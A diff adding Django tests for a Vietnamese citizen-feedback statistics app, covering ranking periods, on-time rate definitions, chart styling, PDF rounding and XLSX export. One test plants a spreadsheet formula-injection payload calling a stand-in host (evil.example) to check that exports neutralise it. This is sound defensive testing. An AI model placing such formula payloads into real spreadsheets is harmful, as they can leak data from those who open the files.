@@ -393,4 +393,77 @@ def test_forwarded_within_five_minutes(ben_thanh, sai_gon):
 
 def test_the_ranking_page_defines_only_its_own_columns(client, db):
     body = client.get("/phan-anh/xep-hang/").content.decode()
-    assert "Tỷ lệ đúng hạn:" in body and "Chuyển xử lý trong 5 phút" not in body
+    assert "Thời gian xử lý:" in body and "Chuyển xử lý trong 5 phút" not in body
+
+
+def test_the_public_ranking_defaults_to_the_last_complete_month(client, db):
+    from unittest import mock
+
+    with mock.patch("django.utils.timezone.localdate", return_value=date(2027, 1, 3)):
+        body = client.get(reverse("feedback:ranking")).content.decode()
+        payload = client.get("/api/v1/feedback/stats/ranking").json()
+    assert 'value="2026-12" selected' in body and "01/12/2026" in body and "31/12/2026" in body
+    assert payload["period"] == "2026-12"
+
+
+def test_the_ranking_page_has_one_definition_of_on_time(data, client, ben_thanh):
+    body = client.get(reverse("feedback:ranking"), {"period": "2026-03"}).content.decode()
+    assert "Tỷ lệ đúng hạn" not in body  # on time ÷ resolved: another definition than the score's
+    assert "Mức độ đúng hạn = " in body
+    row = next(r for r in stats.unit_ranking(**MARCH, today=TODAY) if r.key == ben_thanh.pk)
+    assert row.timeliness_rate != row.on_time_rate  # the two definitions differ on this data
+    cells = body.split(f'<th scope="row">{ben_thanh.name}</th>', 1)[1].split("</tr>", 1)[0]
+    assert f"{row.timeliness_rate:.1f}".replace(".", ",") + "%" in cells
+
+
+def test_the_chart_stops_at_today_and_needs_no_inline_style(client, login, ward_admin):
+    from django.utils import timezone
+
+    today = timezone.localdate()
+    response = login(ward_admin).get(reverse("feedback:stats"), {"preset": "this_month", "group_by": "organisation"})
+    points = response.context["points"]
+    assert points[0].start == today.replace(day=1) and points[-1].start == today  # not the rest of the month
+    chart = response.content.decode().split('<figure class="chart">', 1)[1].split("</figure>", 1)[0]
+    assert "style=" not in chart  # the content security policy blocks inline styles
+    assert 'font-size="11"' in chart
+
+
+def test_pdf_rounds_as_the_page_and_the_xlsx(monkeypatch):
+    """59 of 400 on time is 14.75 %: the page shows 14,8, so must the PDF (it truncated to 14,7)."""
+    from django.utils import translation
+    from fpdf.table import Row as PdfRow
+
+    written = []
+    original = PdfRow.cell
+
+    def spy(self, text="", *args, **kwargs):
+        written.append(text)
+        return original(self, text, *args, **kwargs)
+
+    monkeypatch.setattr(PdfRow, "cell", spy)
+    row = stats.Row(key=1, label="Phường Bến Thành", received=420, resolved=400, on_time=59)
+    assert row.on_time_rate == 14.75
+    with translation.override("vi"):
+        stats_export.stats_pdf(rows=[row], total=None, period=stats.Period(**MARCH), group_by="organisation")
+    cells = written[written.index("Phường Bến Thành") :]
+    assert cells[4] == "14,8"
+
+
+def test_a_category_named_like_a_formula_is_text_in_the_xlsx(data, login, city_leader):
+    evil = '=HYPERLINK("http://evil.example/?leak","x")'
+    Category.objects.filter(code="giao-thong").update(name=evil)
+    response = login(city_leader).get(
+        reverse("feedback:stats_xlsx"), {"start": "01/03/2026", "end": "31/03/2026", "group_by": "category"}
+    )
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value and "HYPERLINK" in str(cell.value)]
+    assert len(cells) == 1
+    assert cells[0].data_type == "s" and cells[0].value == "'" + evil  # text, not a live formula
+    assert b"<f>" not in _sheet_xml(response.content)
+
+
+def _sheet_xml(content: bytes) -> bytes:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))
